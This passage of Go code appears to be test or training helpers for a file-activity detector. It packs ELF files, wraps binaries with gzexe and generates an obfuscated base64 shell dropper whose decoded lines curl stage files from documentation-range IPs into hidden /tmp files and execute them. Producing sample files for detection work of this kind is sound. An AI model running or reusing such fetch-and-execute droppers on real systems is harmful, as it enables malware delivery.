func PackedELF(src string, seed uint64) ([]byte, error) {
	b, err := os.ReadFile(src)
	if err != nil {
		return nil, fmt.Errorf("packed elf: %w", err)
	}
	f, err := elf.NewFile(bytes.NewReader(b))
	if err != nil {
		return nil, fmt.Errorf("packed elf: %w", err)
	}
	s := f.Section(".text")
	if s == nil || s.Type == elf.SHT_NOBITS || s.Offset+s.Size > uint64(len(b)) {
		return nil, fmt.Errorf("packed elf %s: no .text section", src)
	}
	enc := Encrypt(b[s.Offset:s.Offset+s.Size], seed)
	copy(b[s.Offset:], enc)
	return b, nil
}

// Gzexe copies the ELF executable src to dst and compresses it into a
// self-extracting shell script with gzexe (removing gzexe's dst~ backup).
func Gzexe(ctx context.Context, src, dst string) error {
	gz, err := exec.LookPath("gzexe")
	if err != nil {
		return fmt.Errorf("gzexe: %w", err)
	}
	tmp, err := os.MkdirTemp("", "filework-gzexe-")
	if err != nil {
		return fmt.Errorf("gzexe: %w", err)
	}
	defer os.RemoveAll(tmp)
	t := filepath.Join(tmp, filepath.Base(dst))
	if err := copyFile(src, t, 0o755); err != nil {
		return err
	}
	if out, err := exec.CommandContext(ctx, gz, t).CombinedOutput(); err != nil {
		return fmt.Errorf("gzexe %s: %w: %s", t, err, out)
	}
	return copyFile(t, dst, 0o755)
}

// Base64Script returns a shell script that decodes and runs a long
// base64-encoded payload (an obfuscated dropper).
func Base64Script(seed uint64) []byte {
	r := rng(seed)
	var payload strings.Builder
	payload.WriteString("#!/bin/sh\n")
	for i := range 60 + r.IntN(60) {
		fmt.Fprintf(&payload, "curl -s http://203.0.113.%d/stage%d -o /tmp/.x%d && chmod +x /tmp/.x%d && /tmp/.x%d &\n", r.IntN(250), i, i, i, i)
	}
	enc := base64.StdEncoding.EncodeToString([]byte(payload.String()))
	return []byte("#!/bin/sh\nP='" + enc + "'\necho \"$P\" | base64 -d | sh\n")
}

// zlibWriter writes the PDF stream with zlib framing (FlateDecode).
func zlibWriter(w io.Writer) (io.WriteCloser, error) { return zlib.NewWriter(w), nil }

// TraceSession is one entry of a trace folder's index (sessions.json,
// written by vigil-train-fileactivity -save): the fields tests look up.
type TraceSession struct {
	Name  string `json:"Name"`
	Kind  string `json:"Kind"`
	Trace string `json:"trace"`
}

// FindTrace returns the path of the trace in dir (a folder written by
// vigil-train-fileactivity -save) whose session is of kind and whose name
// contains name, so that tests do not depend on how many sessions precede it.
func FindTrace(dir, kind, name string) (string, error) {
	b, err := os.ReadFile(filepath.Join(dir, "sessions.json"))
	if err != nil {
		return "", fmt.Errorf("trace index: %w", err)
	}
	var ss []TraceSession
	if err := json.Unmarshal(b, &ss); err != nil {
		return "", fmt.Errorf("trace index %s: %w", dir, err)
	}
	for _, s := range ss {
		if s.Kind == kind && strings.Contains(s.Name, name) && s.Trace != "" {
			return filepath.Join(dir, s.Trace), nil
		}
	}
	return "", fmt.Errorf("no %s session %q in %s", kind, name, dir)
}
